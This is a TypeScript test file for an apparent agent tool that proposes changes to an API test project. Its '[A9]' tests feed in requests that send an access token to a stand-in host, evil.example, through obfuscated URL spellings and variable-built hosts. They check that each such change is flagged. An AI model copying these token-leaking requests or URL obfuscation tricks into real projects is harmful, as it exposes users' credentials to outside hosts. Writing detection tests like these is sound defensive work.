import { readFileSync } from 'node:fs'
import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { editFor, untickedAtFirst } from '#engine/case-builder/change-set/apply-change-set.ts'
import { applyEdit } from '#engine/project/edit/edit.ts'
import { joinProject, stateOf } from '#engine/project/edit/state.ts'
import { problemsOf } from '#engine/project/problems/problems.ts'
import { readProject } from '#engine/project/format/read.ts'
import type { Project } from '#engine/project/format/schema.ts'
import { fuzzRuns } from '../../../../e2e/fuzz-runs.ts'
import { callTool, emptyWorkingMemory, type SecretlessProject, type ToolResult, type ToolSession } from '../index.ts'

const read = readProject(readFileSync(new URL('../../../../eval/projects/shop.aprj', import.meta.url), 'utf8'))
if (!read.ok) throw new Error('unreachable: the project can be read')
const shop = read.value.project as SecretlessProject

const worldWith = (more: Partial<ToolSession> = {}): ToolSession => ({
  projects: [{ id: 'shop', project: shop }],
  memory: emptyWorkingMemory(),
  seed: 7,
  ...more,
})

const propose = async (changes: unknown[], more: Partial<ToolSession> = {}): Promise<ToolResult> =>
  (await callTool('propose_changes', { summary: 'Change it', changes }, worldWith(more))).result

/** The project after a proposal. */
function applied(result: ToolResult, project: Project = shop): Project {
  if (result.kind !== 'proposal') throw new Error(`No proposal: ${JSON.stringify(result)}`)
  const after = applyEdit(stateOf(project), result.changeSet.edit, 'forward')
  return joinProject(after.head, ({ id }) => after.cases.get(id))
}

const caseNamed = (project: Project, name: string) =>
  project.suites.flatMap(({ cases }) => cases).find((one) => one.name === name)

const itemsWith = (result: ToolResult, text: string) =>
  result.kind === 'proposal'
    ? result.changeSet.items.filter(({ attention = [] }) => attention.some((one) => one.includes(text)))
    : []

describe('propose_changes', () => {
  it('[A6] makes a flow of steps, with requests from operations and names from the same list', async () => {
    const result = await propose([
      { do: 'add_suite', name: 'Flows' },
      {
        do: 'add_case',
        suite: 'Flows',
        name: 'Create and delete',
        steps: [
          { kind: 'send-request', from: 'POST /orders', fields: { quantity: '${amount}' }, omit: ['gift'], name: 'Create it' },
          { kind: 'assertion', checks: [{ source: 'status', is: 'equals', value: 201 }] },
          { kind: 'data-transfer', transfers: [{ source: 'json', path: '$.id', to: 'order_id' }] },
          { kind: 'send-request', from: 'DELETE /orders/{orderId}', fields: { orderId: '${order_id}' } },
          { kind: 'assertion', step: 'Create it', checks: [{ source: 'json', path: '$.id', is: 'exists' }] },
        ],
      },
      { do: 'set_variable', name: 'amount', value: 3, case: 'Create and delete' },
    ])
    const made = caseNamed(applied(result), 'Create and delete')
    expect(made?.steps.map(({ kind }) => kind)).toEqual([
      'oauth2',
      'send-request',
      'assertion',
      'data-transfer',
      'send-request',
      'assertion',
    ])
    const [, create, , , remove, last] = made?.steps ?? []
    // A reference for a number stands without quotes, a member to omit is gone, and a name of a step is its id.
    expect(create).toMatchObject({ body: { text: expect.stringContaining('"quantity": ${amount}') as string } })
    expect(JSON.stringify(create)).not.toContain('gift')
    expect(remove).toMatchObject({ url: '${baseUrl}/orders/${order_id}' })
    expect(last).toMatchObject({ step: create?.id })
  })

  it('[A7] refuses as a whole, and names what is valid', async () => {
    const texts = await Promise.all(
      [
        [{ do: 'add_case', suite: 'Ordres', name: 'x' }],
        [{ do: 'add_steps', case: 'c3', steps: [{ kind: 'send-request', from: 'POST /order' }] }],
        [
          {
            do: 'add_steps',
            case: 'c3',
            steps: [{ kind: 'assertion', checks: [{ source: 'status', is: 'equals', value: '${oops}' }] }],
          },
        ],
        [{ do: 'edit_step', step: 't1', set: { colour: 'red' } }],
        [{ do: 'add_steps', case: 'c3', steps: [{ kind: 'send-request', from: 'POST /orders', omit: ['colour'] }] }],
      ].map(async (changes) => {
        const result = await propose(changes)
        return result.kind === 'problems' ? result.text : `accepted: ${JSON.stringify(changes)}`
      }),
    )
    expect(texts[0]).toContain('Valid: Orders [s1]')
    expect(texts[1]).toContain('Valid: POST /orders')
    expect(texts[2]).toContain('Variables there are: baseUrl')
    expect(texts[3]).toContain('Valid: name,')
    expect(texts[4]).toContain('Valid: sku, quantity')
  })

  it('[A5] makes the tests of a design as they lie in working memory', async () => {
    const { memory, result } = await callTool(
      'run_design',
      { method: 'boundaries', operation: 'POST /orders', parameters: ['quantity'] },
      worldWith(),
    )
    expect(result).toMatchObject({ kind: 'data', text: expect.stringMatching(/^D1: Boundary values/) as string })
    const [design] = memory.designs
    if (!design) throw new Error('unreachable: there is a design')
    // A value that no discovery would find shows where the tests come from.
    const tests = design.tests.map((test, at) => (at === 0 ? { ...test, values: { 'body.quantity': 4711 } } : test))
    const built =
      design.built?.map((one, at) => (at === 0 ? { ...one, body: { ...(one.body as object), quantity: 4711 } } : one)) ?? []
    const told = { ...memory, designs: [{ ...design, tests, built }] }
    const project = applied(await propose([{ do: 'add_case', suite: 'Orders', design: 'D1' }], { memory: told }))
    expect(JSON.stringify(project.dataSources)).toContain('4711')
    expect(project.designs).toMatchObject([{ method: 'boundaries', source: { operation: 'createOrder' } }])
  })

  it('[A9] marks the host that a URL leads to, however it is written or made', async () => {
    const headers = [{ name: 'X-Key', value: '${access_token}' }]
    const checks = { kind: 'assertion', checks: [{ source: 'status', is: 'equals', value: 200 }] }
    const sent = (url: string) => [{ kind: 'send-request', name: 'Send', method: 'POST', url, headers }, checks]
    const written = [
      'https:/evil.example/',
      'https:evil.example',
      'HTTPS:///evil.example',
      'https:\\\\evil.example',
      'h\nttps:/\t/evil.example',
    ]
    for (const url of [...written, '\u0001https:/evil.example', 'https://shop.test @evil.example/']) {
      const result = await propose([{ do: 'add_steps', case: 'c1', steps: sent(url) }])
      expect([url, itemsWith(result, 'New host: evil.example').map(({ unticked }) => unticked)]).toEqual([url, [true]])
    }
    const flow = { do: 'add_case', suite: 'Orders', name: 'Flow' }
    // Neither the check of the request nor the case around it is left without it.
    const whole = await propose([{ ...flow, steps: sent('https://evil.example/') }])
    const items = whole.kind === 'proposal' ? whole.changeSet.items : []
    expect([untickedAtFirst(items).size, items.length]).toEqual([3, 3])
    for (const url of ['https://${h}/x', '${h}/x', 'https://${uuid}.evil.example/']) {
      const result = await propose([
        { ...flow, ...(url.includes('${h}') ? { rows: [{ h: 'https://evil.example' }] } : {}), steps: sent(url) },
      ])
      expect([url, itemsWith(result, 'only during the run').map(({ unticked }) => unticked)]).toEqual([url, [true]])
    }
    // Values of what stands behind the host, which multiply, hide none.
    const names = ['a', 'b', 'c', 'd', 'e', 'f', 'g']
    const set = [...names, 'p'].flatMap((name) => [
      { do: 'set_variable', name, value: name === 'p' ? 'https://shop.test' : '1' },
      { do: 'set_variable', name, value: name === 'p' ? 'https://evil.example' : '2', suite: 'Orders' },
    ])
    const hidden = await propose([...set, { ...flow, steps: sent(`\${p}/${names.map((name) => `\${${name}}`).join('')}`) }])
    expect(itemsWith(hidden, 'is sent to evil.example')).toMatchObject([{ unticked: true }])
  })

  it('[A9] marks new hosts, secrets elsewhere, removals and weaker checks', async () => {
    const sent = { kind: 'send-request', name: 'Send', url: 'https://${part}.example/x', method: 'POST' }
    const leak = await propose([
      { do: 'set_variable', name: 'part', value: 'evil' },
      { do: 'add_steps', case: 'c1', steps: [{ ...sent, headers: [{ name: 'X-Key', value: '${access_token}' }] }] },
    ])
    expect(itemsWith(leak, 'New host: evil.example')).toMatchObject([{ of: 'step', unticked: true }])
    expect(itemsWith(leak, 'secret ${access_token} is sent to evil.example')).toHaveLength(1)
    const told = await propose([{ do: 'add_steps', case: 'c1', steps: [{ ...sent, url: 'https://partner.example/x' }] }], {
      allowedHosts: ['partner.example'],
    })
    expect(itemsWith(told, 'host')).toEqual([])
    const moved = await propose([{ do: 'set_variable', name: 'baseUrl', environment: 'Staging', value: 'https://evil.example' }])
    expect(itemsWith(moved, 'evil.example')).toMatchObject([{ of: 'environment', unticked: true }])
    const removal = [{ do: 'remove', of: 'case', target: 'c5' }]
    expect(itemsWith(await propose(removal), 'Removes')).toMatchObject([{ unticked: true }])
    expect(itemsWith(await propose(removal, { asksRemoval: true }), 'Removes')[0]).not.toHaveProperty('unticked')
    const assertion = shop.suites[0]?.cases[0]?.steps.find(({ kind }) => kind === 'assertion')
    const weaker = await propose([
      { do: 'edit_step', step: assertion?.id, set: { checks: [{ source: 'status', is: 'less-than', value: 500 }] } },
    ])
    expect(itemsWith(weaker, 'Weaker')).not.toEqual([])
  })

  it('[A8] makes rows of random data', async () => {
    const change = { do: 'add_data_source', rows: [{ page: '${random.int(1,9)}' }], randomRows: 5 }
    const [source] = applied(await propose([change])).dataSources.slice(-1)
    expect(source).toMatchObject({ kind: 'generated', rows: 5, columns: [{ name: 'page', value: '${random.int(1,9)}' }] })
    expect(await propose([{ ...change, randomRows: -1 }])).toMatchObject({ kind: 'problems' })
  })

  it('[A9] marks headers that neither the project nor the user named', async () => {
    const send = (name: string) => ({
      do: 'add_steps',
      case: 'c1',
      steps: [{ kind: 'send-request', name: 'Send', url: '${baseUrl}/x', method: 'POST', headers: [{ name, value: '1' }] }],
    })
    expect(itemsWith(await propose([send('X-Debug')]), 'New header: X-Debug')).toMatchObject([{ of: 'step' }])
    const known = ['Authorization', 'Content-Type'].map(send)
    expect(itemsWith(await propose(known), 'header')).toEqual([])
    const said = await propose([send('Idempotency-Key')], { words: 'Send it with an idempotency key.' })
    expect(itemsWith(said, 'header')).toEqual([])
    // An agent's summary is its request.
    const { result } = await callTool('propose_changes', { summary: 'Send X-Debug', changes: [send('X-Debug')] }, worldWith())
    expect(itemsWith(result, 'header')).toEqual([])
    const headers = [{ name: 'X-Debug', value: '1' }]
    const inherited = await propose([{ do: 'set_headers', of: 'suite', target: 's1', headers }])
    expect(itemsWith(inherited, 'X-Debug')).toMatchObject([{ of: 'suite', fields: [{ name: 'headers', after: 'X-Debug: 1' }] }])
  })

  it.each([
    [{ do: 'set_headers', of: 'suite', target: 's1', headers: [{ name: 'X-A', value: '1' }] }, 'suite', 'headers'],
    [{ do: 'set_headers', of: 'project', headers: [{ name: 'X-A', value: '1' }] }, 'project', 'headers'],
    [{ do: 'set_variable', name: 'a', value: '1', suite: 's1' }, 'suite', 'variables'],
    [{ do: 'move_case', case: 'c1', after: 'c2' }, 'suite', 'order'],
  ])('[A9] %j is an item that can be unticked', async (change, of, field) => {
    const result = await propose([change])
    if (result.kind !== 'proposal') throw new Error(JSON.stringify(result))
    const { items } = result.changeSet
    expect(items).toMatchObject([{ of, what: 'changed', fields: [{ name: field }] }])
    expect(editFor(result.changeSet, new Set(items.map(({ id }) => id)))).toBeUndefined()
    expect(editFor(result.changeSet, new Set())).toBeDefined()
  })

  it(
    '[A7] any list of changes gives problems, or a project in which nothing is wrong that was not before',
    { timeout: 60_000 },
    async () => {
      const name = fc.constantFrom(
        'Orders',
        's1',
        'New',
        'c1',
        'c3',
        'Pay an order',
        'Check',
        't1',
        'baseUrl',
        'nope',
        '',
        'Staging',
      )
      const check = fc.record(
        {
          source: fc.constantFrom('status', 'json'),
          path: fc.constantFrom('$.id', '$..['),
          is: fc.constantFrom('equals', 'exists', 'nonsense'),
          value: fc.constantFrom(201, '${oops}'),
        },
        { requiredKeys: ['source', 'is'] },
      )
      const step = fc.oneof(
        fc.record(
          {
            kind: fc.constant('send-request'),
            from: fc.constantFrom('POST /orders', 'GET /orders/{orderId}', 'PUT /nope'),
            as: fc.constantFrom('none', 'wrong', 'admin'),
            fields: fc.dictionary(fc.constantFrom('sku', 'quantity', 'x'), fc.jsonValue({ maxDepth: 1 })),
          },
          { requiredKeys: ['kind', 'from'] },
        ),
        fc.record(
          {
            kind: fc.constantFrom('assertion', 'data-transfer', 'loop-start', 'loop-end', 'wait', 'sql', 'teleport'),
            checks: fc.array(check, { maxLength: 2 }),
            step: name,
            seconds: fc.integer(),
          },
          { requiredKeys: ['kind'] },
        ),
      )
      const steps = fc.array(step, { maxLength: 3 })
      const change = fc.oneof(
        fc.record({ do: fc.constant('add_suite'), name }),
        fc.record(
          {
            do: fc.constant('add_case'),
            suite: name,
            name,
            steps,
            rows: fc.array(fc.dictionary(fc.constantFrom('sku', 'a b'), fc.constantFrom('1', 2)), { maxLength: 2 }),
            design: fc.constant('D1'),
          },
          { requiredKeys: ['do', 'suite', 'name'] },
        ),
        fc.record(
          { do: fc.constant('add_steps'), case: name, steps, before: name, first: fc.boolean() },
          { requiredKeys: ['do', 'case', 'steps'] },
        ),
        fc.record(
          {
            do: fc.constantFrom('remove', 'rename'),
            of: fc.constantFrom('suite', 'case', 'step', 'variable', 'project', 'environment'),
            target: name,
            case: name,
            to: name,
          },
          { requiredKeys: ['do', 'of', 'target'] },
        ),
        fc.record(
          {
            do: fc.constantFrom('move_case', 'set_tags', 'order_steps'),
            case: name,
            suite: name,
            tags: fc.array(name),
            steps: fc.array(name, { maxLength: 2 }),
            before: name,
          },
          { requiredKeys: ['do', 'case'] },
        ),
        fc.record(
          {
            do: fc.constant('set_variable'),
            name,
            value: fc.constantFrom('x', '${baseUrl}', '${'),
            environment: name,
            secret: fc.boolean(),
          },
          { requiredKeys: ['do', 'name'] },
        ),
        fc.record(
          { do: fc.constant('set_load_test'), target: name, users: fc.integer(), duration: fc.integer() },
          { requiredKeys: ['do'] },
        ),
        fc.record({
          do: fc.constant('edit_step'),
          step: fc.constantFrom('t1', 'Check'),
          set: fc.dictionary(fc.constantFrom('name', 'checks', 'step', 'url', 'disabled'), fc.jsonValue({ maxDepth: 1 })),
        }),
        fc.jsonValue({ maxDepth: 2 }),
      )
      const before = new Set(problemsOf(shop).map(({ path, text }) => `${path}: ${text}`))
      await fc.assert(
        fc.asyncProperty(fc.array(change, { maxLength: 5 }), async (changes) => {
          const result = await propose(changes)
          if (result.kind === 'problems') {
            expect(new TextEncoder().encode(result.text).length).toBeLessThanOrEqual(4_000)
            return
          }
          const after = applied(result)
          expect(
            problemsOf(after)
              .map(({ path, text }) => `${path}: ${text}`)
              .filter((one) => !before.has(one)),
          ).toEqual([])
        }),
        { numRuns: fuzzRuns(1_200) },
      )
    },
  )
})
